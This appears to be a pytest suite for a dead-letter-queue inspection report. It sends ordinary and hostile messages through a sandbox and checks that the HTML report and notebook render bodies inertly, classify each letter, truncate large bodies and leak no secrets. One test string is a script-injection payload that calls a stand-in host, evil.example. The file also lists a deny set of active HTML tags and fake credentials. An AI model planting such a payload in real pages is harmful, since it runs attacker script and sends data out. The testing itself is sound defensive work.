"""Letters of every shape in a real headless run: each classed right, and shown so that nothing in it acts."""

from __future__ import annotations

import html
import json
import os
import re
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest

from tests import forked
from tests.corpus import DONE, HOSTILE, SHAPES, Sent
from tests.sandbox.running import running
from tests.sent_letters import count, send
from tests.test_lab import ARGUMENTS, CHROMIUM

NAME = "recording-newest"
SENT = (*SHAPES, *HOSTILE)
ACTS = {"script", "img", "iframe", "link", "meta", "base", "form", "object", "embed", "svg", "a", "portal", "frame"}
STYLED = 'class="banner'  # the one output that brings the CSS


@dataclass(frozen=True)
class Ran:
    """What the run left, and the MessageId of each letter that was sent."""

    folder: Path
    ids: dict[str, Sent]
    code: int

    @property
    def page(self) -> str:
        return (self.folder / "report.html").read_text(encoding="utf-8")

    @property
    def findings(self) -> dict[str, Any]:
        told = json.loads((self.folder / "findings.json").read_text(encoding="utf-8"))["findings"]
        return {one["id"]: one for one in told}


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ran]:
    """A recording whose dead-letter queues hold the corpus, looked into without a person."""
    root = tmp_path_factory.mktemp("corpus")
    with running(root, NAME) as sandbox:
        letters = [{"queue": f"stereo-spot-{s.queue}-dlq", "body": s.body, "attributes": s.attributes} for s in SENT]
        ids = dict(zip(send(sandbox, letters), SENT, strict=True))
        words = ["run", "1_dead_letters", "-e", NAME, "-p", "inspect=true", "--output", str(root / "out")]
        done = forked.run("ops", words, root, os.environ | {"OPS_STATE": str(root)})
        assert "\x1b" not in done.stdout + done.stderr
        assert count(sandbox, "stereo-spot-chunking-dlq")[1] == 0, "all were put back"
        yield Ran(root / "out", ids, done.returncode)


def shown(page: str) -> dict[str, str]:
    """Return the class that stands beside each MessageId in the table of letters."""
    rows = [row for row in page.split("<tr>") if "MessageId " in row and "<summary>body</summary>" in row]
    named = (re.search(r"</span> ([a-z-]+)</td>.*MessageId ([0-9a-f-]{36})", row, re.DOTALL) for row in rows)
    return {found[2]: found[1] for found in named if found}


def test_each_letter_is_classed_right(ran: Ran) -> None:
    assert ran.code == 2
    classes = shown(ran.page)
    wrong = {s.body[:80]: (s.name, classes.get(one)) for one, s in ran.ids.items() if classes.get(one) != s.name}
    assert not wrong
    assert {f"dead-letters:{sent.queue}:{sent.name}" for sent in SENT} <= set(ran.findings)


def test_what_nobody_could_see_is_not_among_the_findings(ran: Ran) -> None:
    assert not [one for one in ran.findings if one.endswith(":not-seen")]
    assert not [one["summary"] for one in ran.findings.values() if "did not look into" in one["summary"]]


class Tags(HTMLParser):
    """Collects the tags, and every attribute but those that our own tables have."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


def outputs(ran: Ran) -> list[str]:
    cells = nbformat.read(ran.folder / "notebook.ipynb", as_version=4).cells
    return [o.data.get("text/html", "") for cell in cells for o in cell.get("outputs", []) if "data" in o]


def test_in_the_executed_notebook_nothing_of_a_body_is_markup(ran: Ran) -> None:
    for output in outputs(ran):
        found = Tags()
        found.feed(output)
        assert not found.tags & (ACTS | (set() if STYLED in output else {"style"}))
        assert found.attributes <= {"class", "colspan"}


def test_no_control_character_half_surrogate_or_secret_is_left_anywhere(ran: Ran) -> None:
    for path in ran.folder.iterdir():
        text = path.read_text(encoding="utf-8")
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", text)
        assert not re.search(
            r"\\u00(?:1b|00|07)|\\ud[89a-f]", json.dumps(json.loads(text)) if path.suffix == ".json" else ""
        )
        assert "hunter2" not in text
        assert "AKIAABCDEFGHIJKLMNOP" not in text


def test_a_long_body_is_cut_and_its_size_said(ran: Ran) -> None:
    assert "1,048,576 bytes; only the first 2,000 characters are shown" in ran.page
    assert "&lt;" * 2000 in ran.page
    assert "&lt;" * 2001 not in ran.page
    assert sum(path.stat().st_size for path in ran.folder.iterdir()) < 5_000_000


def test_bodies_and_attributes_are_shown_as_they_are(ran: Ran) -> None:
    text = html.unescape(ran.page)
    assert f"input%2F{DONE}%2Fsource.mp4" in text
    assert "my holiday+film.mp4" in text
    assert "attribute blob (Binary): 4 bytes" in text
    assert "<script>window.pwned=1;fetch('http://evil.example/a')</script>" in text


@pytest.mark.skipif(CHROMIUM is None, reason="no chromium on this machine: apt-get install chromium")
@pytest.mark.parametrize("width", [375, 1280])
def test_in_a_browser_no_script_runs_and_no_request_leaves(ran: Ran, width: int) -> None:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        page = chromium.new_page(viewport={"width": width, "height": 800})
        asked: list[str] = []
        said: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("console", lambda message: said.append(message.text))
        page.on("dialog", lambda dialog: said.append(dialog.message))
        address = (ran.folder / "report.html").as_uri()
        page.goto(address)
        page.eval_on_selector_all("details", "all => all.forEach(one => one.open = true)")
        page.wait_for_load_state("networkidle")
        assert [url for url in asked if not url.startswith("data:")] == [address]
        assert said == []
        assert page.evaluate("typeof window.pwned") == "undefined"
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
        chromium.close()
